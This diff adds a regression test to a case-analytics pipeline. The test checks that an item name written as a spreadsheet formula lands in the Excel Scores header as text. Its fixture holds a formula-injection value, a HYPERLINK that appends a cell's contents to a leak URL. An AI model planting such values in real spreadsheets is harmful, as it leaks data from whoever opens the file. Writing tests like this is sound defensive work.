@@ -251,3 +251,21 @@ def test_a_year_of_cases_behind_one_deduction_fits_excel_cells(tmp_path):
     assert len(rows) == 2 and rows[0][3:5] == (1400, -1400) and rows[1][3:5] == (None, None) and rows[1][6] == "续 continued"
     listed = [case_id for r in rows for case_id in r[5].split(", ")]
     assert len(listed) == 1400 and set(listed) == ids
+
+
+def test_an_item_named_like_a_formula_heads_its_column_as_text(tmp_path):
+    """Item names head the Scores sheet's columns; the header row was written without the guard the cells get, so an
+    item named `=HYPERLINK(…)` (a sheet from elsewhere) became a formula that runs in whoever opens the workbook."""
+    from openpyxl import load_workbook
+
+    from pipelines.analytics.scoring import score_tables
+    from pipelines.analytics.tables import write_xlsx
+
+    store = CaseStore(f"sqlite:///{tmp_path}/cases.db")
+    CaseMaker(store).add("street_stall", G1, local(2, 8))
+    name = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"摊点")'
+    places = load_places(AnalyticsConfig(grid=write_grid(tmp_path / "grid.geojson")))
+    table = score_store(store.engine, places, load_sheet(_sheet(tmp_path, [{**STALL, "name": name}])), "grid", NOV, TZ)
+    store.close()
+    header = load_workbook(write_xlsx(tmp_path / "scores.xlsx", score_tables(table)))["得分 Scores"][1]
+    assert [(c.value, c.data_type) for c in header][-1] == (name, "s")
